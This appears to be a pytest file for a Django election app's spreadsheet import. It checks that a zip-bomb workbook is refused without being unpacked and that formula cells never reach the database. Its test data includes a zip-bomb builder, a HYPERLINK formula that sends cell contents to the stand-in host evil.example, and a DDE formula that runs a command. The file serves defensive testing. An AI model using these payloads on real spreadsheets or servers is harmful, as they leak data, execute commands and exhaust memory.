"""Hostile import files: a workbook that unpacks to hundreds of megabytes, and formulas in workbook cells. Each is
refused or neutralised with a clear message, without holding the unpacked file in memory. (Files of another type,
other encodings, files over 10 MB and formulas on export are covered in test_imports.py.)"""

from __future__ import annotations

import io
import tracemalloc
import zipfile

import pytest
from django.test import Client

from elections.models import Election, PollingStation
from elections.tests.test_imports import STATION_HEADER, station_values, upload, xlsx_bytes
from elections.uploads import MAX_XLSX_UNPACKED_SIZE

MB = 1024 * 1024
BOMB_PADDING = 300 * MB
# Memory the refused upload may take: a few times the small file, nowhere near what the workbook unpacks to.
MEMORY_BUDGET = 30 * MB


def zip_bomb(padding: int) -> bytes:
    """A real workbook whose sheet XML is followed by ``padding`` spaces (still well-formed XML), deflated."""
    workbook = xlsx_bytes([STATION_HEADER.split(","), ["N-9", "Nine", "", "N", 5, None, None]])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for part in source.infolist():
            content = source.read(part)
            if part.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(part, content)
                continue
            with bomb.open(part.filename, "w", force_zip64=True) as sheet:
                sheet.write(content)
                block = b" " * MB
                for _ in range(padding // MB):
                    sheet.write(block)
    return out.getvalue()


def test_a_workbook_that_unpacks_to_hundreds_of_megabytes_is_refused_before_it_is_unpacked(
    official_client: Client, election: Election
) -> None:
    content = zip_bomb(BOMB_PADDING)
    assert len(content) < MB < MAX_XLSX_UNPACKED_SIZE < BOMB_PADDING
    before = station_values(election)

    tracemalloc.start()
    try:
        response = upload(official_client, "pollingstation", content, election=election, file_format="xlsx")
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert [message.replace("\xa0", " ") for message in response.context["form"].errors["import_file"]] == [
        "This XLSX workbook unpacks to 300.0 MB, more than the 100.0 MB that can be imported. "
        "Split it into smaller files."
    ]
    assert "confirm_form" not in response.context
    assert peak < MEMORY_BUDGET, f"{peak / MB:.0f} MB"
    assert station_values(election) == before


def test_a_workbook_just_under_the_unpacked_limit_is_read(official_client: Client, election: Election) -> None:
    """The limit refuses bombs only: padding that keeps the workbook under it does not stop the import."""
    response = upload(official_client, "pollingstation", zip_bomb(10 * MB), election=election, file_format="xlsx")
    assert "confirm_form" in response.context, response.context["form"].errors


@pytest.mark.parametrize(
    "formula", ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1", '=cmd|" /C calc"!A0', "@SUM(1,2)"]
)
def test_formula_cells_of_a_workbook_never_reach_the_database_as_formulas(
    official_client: Client, election: Election, formula: str
) -> None:
    """Workbook cells are read as values, never as formula text: a formula without a saved value reads as empty,
    so its row is reported by number and reason and the other rows load."""
    content = xlsx_bytes(
        [STATION_HEADER.split(","), ["N-9", formula, "", "N", 5, None, None], ["N-10", "Ten", "", "N", 7, None, None]]
    )
    preview = upload(official_client, "pollingstation", content, election=election, file_format="xlsx")
    assert "confirm_form" in preview.context, preview.context["form"].errors
    page = preview.content.decode()
    if formula.startswith("="):
        assert "Row 2" in page or "row 2" in page
    official_client.post(
        "/admin/elections/pollingstation/process_import/", preview.context["confirm_form"].initial, follow=True
    )
    names = list(PollingStation.objects.filter(election=election).values_list("name", flat=True))
    assert "Ten" in names
    assert not [name for name in names if name.startswith("=")]
